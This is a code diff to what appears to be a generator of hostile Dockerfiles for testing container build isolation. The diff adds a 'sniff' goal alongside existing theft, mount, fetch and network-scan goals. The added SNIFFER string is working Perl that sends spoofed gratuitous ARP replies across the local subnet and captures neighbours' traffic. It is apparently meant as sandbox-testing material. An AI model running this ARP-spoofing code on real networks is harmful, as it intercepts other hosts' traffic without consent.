@@ -9,6 +9,17 @@ from random import Random
 
 BASE = "node:20-bookworm-slim"
 LOOT = "/loot"
+SNIFFER = r"""use Socket; use strict; socket(my $raw, 17, 3, 768) or do { print "raw: $!\n"; exit };
+my @own = split /\./, (split " ", `hostname -I`)[0] || "127.0.0.1";
+sub spoof { for my $path (glob "/sys/class/net/*") { my ($name) = $path =~ m!([^/]+)$!; next if $name eq "lo";
+  open my $file, "<", "$path/address" or next; chomp(my $mac = <$file>); $mac =~ s/://g; $mac = pack "H12", $mac;
+  open $file, "<", "$path/ifindex" or next; my $to = pack "S n i S C C a8", 17, 0x806, <$file> + 0, 0, 0, 6, "\xff" x 6;
+  for my $host (1 .. 30) { my $ip = pack "C4", @own[0 .. 2], $host;
+    send $raw, "\xff" x 6 . $mac . pack("n n n C C n", 0x806, 1, 0x800, 6, 4, 2) . $mac . $ip . "\xff" x 6 . $ip, 0, $to } } }
+my $end = time + 4; my $next = 0;
+while (time < $end) { if (time >= $next) { spoof(); $next = time + 1 } my $ready = ""; vec($ready, fileno $raw, 1) = 1;
+  next unless select $ready, undef, undef, 0.3; recv $raw, my $heard, 65535, 0; $heard =~ s/[^ -~]+/ /g; print "$heard\n" }"""
+"""Perl, which the base image has: gratuitous ARP for every address of the network, then all that arrives in four seconds."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -39,9 +50,18 @@ class Grammar:
     def __init__(self, rng: Random, targets: Targets) -> None:
         self._rng, self._t = rng, targets
         self._goals: tuple[Callable[[], str], ...] = (
-            self._theft, self._theft, self._theft, self._link, self._link, self._fetch, self._mount, self._mount, self._network,
+            self._theft,
+            self._theft,
+            self._theft,
+            self._link,
+            self._link,
+            self._fetch,
+            self._mount,
+            self._mount,
+            self._network,
+            self._sniff,
             self._onbuild,
-        )  # fmt: skip
+        )
 
     def make(self) -> Made:
         goal = self._rng.choice(self._goals)
@@ -62,10 +82,19 @@ class Grammar:
         """The name as an engine may still read it."""
         cut = self._rng.randrange(1, len(name))
         return self._one(
-            name, name, f'"{name}"', f"'{name}'", name.upper(), name.capitalize(), f"{name[:cut]}\\\n{name[cut:]}",
-            f"${{X:-{name}}}", f'{name[:cut]}"{name[cut:]}"', f"docker.io/{name}", f"localhost/{name}",
+            name,
+            name,
+            f'"{name}"',
+            f"'{name}'",
+            name.upper(),
+            name.capitalize(),
+            f"{name[:cut]}\\\n{name[cut:]}",
+            f"${{X:-{name}}}",
+            f'{name[:cut]}"{name[cut:]}"',
+            f"docker.io/{name}",
+            f"localhost/{name}",
             f"containers-storage:{name}",
-        )  # fmt: skip
+        )
 
     def _from(self, what: str, alias: str = "") -> str:
         keyword = self._one("FROM", "FROM", "from", "From")
@@ -101,11 +130,17 @@ class Grammar:
         before = f"RUN mkdir -p {link.rpartition('/')[0] or '/'} && ln -s {self._t.folder} {link}\n"
         user = self._one("", "USER 1000\n", "USER node\n")
         lines = [
-            f"WORKDIR {link}/{made}\n", f"VOLUME {link}/{made}\n", f"COPY a {link}/{made}\n", f"ADD a {link}/{made}/\n",
-            f"COPY --chown=1000 a {link}/{made}\n", f"ENV W={link}/{made}\nWORKDIR $W\n", f'WORKDIR "{link}/{made}"\n',
-            f"RUN --mount=type=cache,target={link}/{made} true\n", f"RUN --mount=type=tmpfs,target={link}/{made} true\n",
+            f"WORKDIR {link}/{made}\n",
+            f"VOLUME {link}/{made}\n",
+            f"COPY a {link}/{made}\n",
+            f"ADD a {link}/{made}/\n",
+            f"COPY --chown=1000 a {link}/{made}\n",
+            f"ENV W={link}/{made}\nWORKDIR $W\n",
+            f'WORKDIR "{link}/{made}"\n',
+            f"RUN --mount=type=cache,target={link}/{made} true\n",
+            f"RUN --mount=type=tmpfs,target={link}/{made} true\n",
             f"COPY <<E {link}/{made}\nx\nE\n",
-        ]  # fmt: skip
+        ]
         self._rng.shuffle(lines)
         return self._from(BASE) + before + user + "".join(lines[: self._rng.randrange(1, 4)]) + "RUN pwd\n"
 
@@ -119,9 +154,11 @@ class Grammar:
             self._from(BASE) + f'ADD ["{url}", "{LOOT}"]\n' + self._print_loot(),
             self._from(BASE) + f"ADD {url[:7]}\\\n{url[7:]} {LOOT}\n" + self._print_loot(),
             self._from(BASE) + f"ADD git://{place}/x.git {LOOT}\n" + self._print_loot(),
-            self._from(f"{place}/x"), self._from(f"{place}/x", "x") + self._from("x"), self._from(f'"{place}/x"'),
+            self._from(f"{place}/x"),
+            self._from(f"{place}/x", "x") + self._from("x"),
+            self._from(f'"{place}/x"'),
             self._from(BASE) + f"COPY --from={place}/x / {LOOT}\n",
-        )  # fmt: skip
+        )
 
     def _mount(self) -> str:
         """A folder of the host's, by a mount's source or target."""
@@ -148,6 +185,11 @@ class Grammar:
         ).replace("PORTS", f"{self._t.port},{self._t.neighbour_port}")
         flag = self._one("", "", "--network=host ", "--network=default ", "--security=insecure ", "--network=container:1 ")
         return self._from(BASE) + f'RUN {flag}["node","-e",{_json(scan)},{",".join(_json(a) for a in self._t.addresses)}]\n'
+
+    def _sniff(self) -> str:
+        """The neighbour's traffic, heard by a raw socket that tells all neighbours to send it here."""
+        flag = self._one("", "", "--network=host ", "--network=default ", "--security=insecure ")
+        return self._from(BASE) + f'RUN {flag}["perl","-e",{_json(SNIFFER)}]\n'
 
     def _onbuild(self) -> str:
         """What this file refuses, as a trigger of a stage that the next one stands on."""
